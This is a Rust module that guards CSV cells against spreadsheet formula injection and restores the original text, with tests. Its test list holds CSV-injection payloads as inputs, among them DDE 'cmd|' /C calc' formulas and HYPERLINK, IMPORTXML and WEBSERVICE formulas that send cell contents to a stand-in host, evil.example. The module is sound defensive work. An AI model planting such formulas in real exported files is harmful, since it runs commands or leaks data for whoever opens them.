//! Escapes a text for a cell of a CSV file that may be opened with a spreadsheet, and reads it back.
//!
//! A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@`, and a stranger can make a text in a log or an order
//! file begin that way. Such a text gets a `'` in front; the reader of the file removes it. Both directions are in this
//! module, because they are only correct together: every text comes back as it was.

use std::borrow::Cow;
use std::fmt::Write;

/// A text as a cell: guarded where a spreadsheet would take it for a formula, and with unsafe characters spelled
/// `\u{1b}`. [`plain`] undoes both.
///
/// A sign after a `;`, a tab or a line end is guarded, too: where a comma is the decimal sign, spreadsheets split a
/// double-clicked file at `;`, whatever its quotes say. An ordinary text is borrowed and unchanged, so that ids join
/// byte for byte.
pub fn guarded(text: &str) -> Cow<'_, str> {
    let spelled = spelled(text);
    let clean = if is_formula(&spelled) { format!("'{spelled}").into() } else { spelled };
    // Almost no text contains a separator.
    if !clean.contains(is_separator) || !starts(&clean).any(|_| true) {
        return clean;
    }
    let mut safe = String::with_capacity(clean.len() + 4);
    let mut from = 0;
    for at in starts(&clean) {
        safe.push_str(&clean[from..at]);
        safe.push('\'');
        from = at;
    }
    safe.push_str(&clean[from..]);
    safe.into()
}

/// The places of the signs that a spreadsheet would take for a formula after it splits at separators.
fn starts(text: &str) -> impl Iterator<Item = usize> {
    let mut at_start = false;
    text.char_indices().filter_map(move |(at, c)| {
        let begins = at_start && is_sign(c);
        at_start = is_separator(c) || at_start && is_skipped(c);
        begins.then_some(at)
    })
}

/// Whether at least one spreadsheet takes this character for the end of a cell, in spite of quotes.
fn is_separator(c: char) -> bool {
    matches!(c, ';' | '\t' | '\r' | '\n')
}

/// The original text of a cell that [`guarded`] made.
pub fn plain(cell: &str) -> Cow<'_, str> {
    let text = cell.strip_prefix('\'').filter(|_| is_formula(cell)).unwrap_or(cell);
    let text = unguarded(text);
    if !text.contains("\\u{") {
        return text;
    }
    unspelled(&text).into()
}

/// Removes the `'` in front of signs after separators.
fn unguarded(text: &str) -> Cow<'_, str> {
    if !text.contains(is_separator) {
        return text.into();
    }
    let marks = starts(text).filter_map(|at| text[..at].strip_suffix('\'').map(str::len));
    let mut plain = String::with_capacity(text.len());
    let mut from = 0;
    for at in marks {
        plain.push_str(&text[from..at]);
        from = at + 1;
    }
    if from == 0 {
        return text.into();
    }
    plain.push_str(&text[from..]);
    plain.into()
}

/// Turns spelled characters back into the characters themselves.
fn unspelled(text: &str) -> String {
    let mut plain = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find("\\u{") {
        let number = rest[at + 3..].split_once('}');
        let found =
            number.and_then(|(hex, behind)| Some((char::from_u32(u32::from_str_radix(hex, 16).ok()?)?, behind)));
        let Some((c, behind)) = found else { break };
        plain.push_str(&rest[..at]);
        plain.push(c);
        rest = behind;
    }
    plain.push_str(rest);
    plain
}

/// Whether a spreadsheet could take a cell for a formula: a sign after skipped characters only, or a line end or tab in
/// front, after which the spreadsheet looks again.
///
/// A `'` in front never changes the answer. So [`plain`] can detect that it was added.
fn is_formula(text: &str) -> bool {
    let begins = text.trim_start_matches(is_skipped);
    let skipped = &text[..text.len() - begins.len()];
    begins.starts_with(is_sign) || skipped.contains(['\t', '\r', '\n'])
}

/// Whether a formula can begin with this character. The full-width forms count, since East Asian versions accept them.
fn is_sign(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\u{ff1d}' | '\u{ff0b}' | '\u{ff0d}' | '\u{ff20}' | '\u{2212}')
}

/// Whether at least one program drops this character from the beginning of a cell before it reads the cell.
fn is_skipped(c: char) -> bool {
    c.is_whitespace() || matches!(c, '\'' | '"' | '\u{200b}' | '\u{2060}' | '\u{feff}')
}

/// Spells out control characters (except line ends and tabs, which a quoted field can contain), line separators and
/// marks that change the writing direction. A backslash that begins such a spelling in the text itself is spelled out,
/// too.
fn spelled(text: &str) -> Cow<'_, str> {
    // Almost all texts are plain, and a look at their bytes shows it.
    if text.bytes().all(|b| matches!(b, b' '..=b'~') && b != b'\\') {
        return text.into();
    }
    let hidden = |c: char| {
        c.is_control() && !matches!(c, '\n' | '\r' | '\t')
            || matches!(c, '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{61c}')
    };
    if !text.contains(hidden) && !text.contains("\\u{") {
        return text.into();
    }
    let mut clean = String::with_capacity(text.len() + 8);
    for (at, c) in text.char_indices() {
        if hidden(c) || text[at..].starts_with("\\u{") {
            // Writing to a String cannot fail.
            let _ = write!(clean, "\\u{{{:x}}}", u32::from(c));
        } else {
            clean.push(c);
        }
    }
    clean.into()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn known_formulas_are_guarded() {
        for text in [
            "=1+1",
            "=cmd|' /C calc'!A0",
            "+cmd|' /C notepad'!'A1'",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example?\"&A1,\"open\")",
            "=IMPORTXML(CONCAT(\"http://evil.example/\",A2),\"//a\")",
            "=WEBSERVICE(\"http://evil.example/\"&A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "  =1",
            "\u{a0}=1",
            "\u{3000}=1",
            "\"=1",
            "'=1",
            "\u{feff}=1",
            "\u{ff1d}1",
            "\u{ff0b}1",
            "\u{ff0d}1",
            "\u{ff20}A1",
        ] {
            assert!(guarded(text).starts_with('\''), "{text:?}");
            assert_eq!(plain(&guarded(text)), text);
        }
        for (text, cell) in [
            ("a; =1;b\n@x;\"-1", "a; '=1;b\n'@x;\"'-1"),
            (";=1", ";'=1"),
            ("1;'=2", "1;''=2"),
            ("\n=1", "'\n'=1"),
            ("1;2", "1;2"),
        ] {
            assert_eq!(guarded(text), cell);
            assert_eq!(plain(cell), text);
        }
    }

    #[test]
    fn ordinary_texts_stay_as_they_are() {
        for text in ["", "000123", "1e5", "#1001", "a=b", "'quoted'", "x\ny", "Größe 日本", "a\\b", "\\u12"] {
            assert!(matches!(guarded(text), Cow::Borrowed(same) if same == text), "{text:?}");
            assert_eq!(plain(text), text);
        }
        assert_eq!(guarded("a\x1b[2J\u{202e}\u{2028}"), "a\\u{1b}[2J\\u{202e}\\u{2028}");
        assert_eq!(guarded("\\u{1b}"), "\\u{5c}u{1b}");
        assert_eq!(plain("\\u{zz}\\u{41"), "\\u{zz}\\u{41");
    }

    proptest::proptest! {
        /// Whatever a stranger writes comes back as it was, and no cell begins a formula.
        #[test]
        fn every_text_comes_back(text in "[=+@\"' \t\r\n;au{}1b\\\\\u{1b}\u{202e}\u{ff1d}-]{0,9}") {
            let cell = guarded(&text);
            proptest::prop_assert_eq!(plain(&cell), text.as_str());
            proptest::prop_assert!(cell.starts_with('\'') || !is_formula(&cell));
        }
    }
}
